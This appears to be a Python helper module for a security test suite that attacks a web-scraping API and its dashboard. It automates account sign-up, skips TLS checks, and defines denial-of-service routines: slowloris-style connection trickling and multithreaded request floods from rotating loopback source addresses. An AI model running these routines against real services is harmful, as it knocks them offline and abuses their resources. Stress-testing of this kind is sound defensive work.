"""What attackers have in common: what they know, and how they ask again and again."""

import contextlib
import functools
import http.client
import json
import random
import re
import socket
import ssl
import threading
import time


class Session:
    """Of a person at the dashboard. `mails`: what tells the text of all that have been sent."""

    def __init__(self, url, email, mails):
        scheme, self.address = url.split("://")
        self.connect = functools.partial(http.client.HTTPSConnection, context=ssl._create_unverified_context()) \
            if scheme == "https" else http.client.HTTPConnection
        self.cookie, self.csrf = "X-None: 0", ""
        self.ask("POST", "sign-up", {"email": email})
        while not (link := re.search(r"/dashboard/verify\?token=([\w-]+)", mails())):
            time.sleep(0.05)
        self.ask("POST", "verify", {"token": link[1], "password": "a password of an attacker"})

    def ask(self, method, name, body=None):
        connection = self.connect(self.address, timeout=60)
        with contextlib.closing(connection):
            field, value = self.cookie.split(": ", 1)
            connection.request(method, "/dashboard/api/" + name, None if body is None else json.dumps(body),
                               {field: value, "X-CSRF-Token": self.csrf, "Content-Type": "application/json"})
            answer = connection.getresponse()
            read = answer.read()
        if given := answer.getheader("Set-Cookie"):
            self.cookie = "Cookie: " + given.split(";")[0]
            self.csrf = json.loads(read).get("csrf_token", self.csrf)
        return read


class Target:
    """What an attacker knows."""

    def __init__(self, url, key, test_key, trap, session=None, gang=()):
        self.session = session
        self.gang = gang  # keys, each of another account
        self.elsewhere = self  # of several servers another one
        self.scheme, address = url.split("://")
        self.host, port = address.split(":")
        self.port = int(port)
        self.key, self.test_key = key, test_key
        self.trap = f"http://127.0.0.1:{trap}"

    def connect(self, timeout=60):
        # An address of loopback is as good as another: an attacker has many.
        source = f"127.{random.randrange(1, 9)}.{random.randrange(4)}.{random.randrange(1, 255)}"
        return socket.create_connection((self.host, self.port), timeout, (source, 0))

    def head(self, path, body, key, *fields):
        lines = [f"POST {path} HTTP/1.1", f"Host: {self.host}:{self.port}",
                 "Content-Type: application/json", f"Content-Length: {len(body)}", *fields]
        if key:
            lines.append("Authorization: Bearer " + key)
        return "\r\n".join([*lines, "", ""]).encode()

    def post(self, path, parameters, key, *fields):
        body = json.dumps(parameters).encode()
        return self.head(path, body, key, *fields) + body

    def scrape(self, path, key=None, *fields, **parameters):
        return self.post("/v1/scrape/markdown", {"url": self.trap + path, **parameters},
                         key or self.key, *fields)


def in_threads(count, work):
    threads = [threading.Thread(target=work, args=(i,), daemon=True) for i in range(count)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()


def again_and_again(work):
    def run(number):
        while True:
            try:
                work(number)
            except OSError:
                time.sleep(0.05)
    return run


def read_answer(connection):
    data = b""
    while b"\r\n\r\n" not in data:
        got = connection.recv(65536)
        if not got:
            return data
        data += got
    return data


def trickle(kept):
    """From now on, each of `kept` is sent a byte a second."""
    def feed():
        while True:
            for one in list(kept):
                with contextlib.suppress(OSError):
                    one.send(b"x")
            time.sleep(1)
    threading.Thread(target=feed, daemon=True).start()


def send_without_end(of, asked):
    """From many addresses, 20 times a connection, reading some of what comes."""
    def once(_):
        with of.connect() as connection:
            for _ in range(20):
                connection.sendall(asked)
                connection.recv(1 << 20)
    in_threads(16, again_and_again(once))


def pages_of(path, count=8):
    """Scrapes of one of the attacker's pages, again and again."""
    def attack(of):
        def once(number):
            with of.connect() as connection:
                connection.sendall(of.scrape(f"{path}?{number}-{random.random()}"))
                read_answer(connection)
        in_threads(count, again_and_again(once))
    return attack
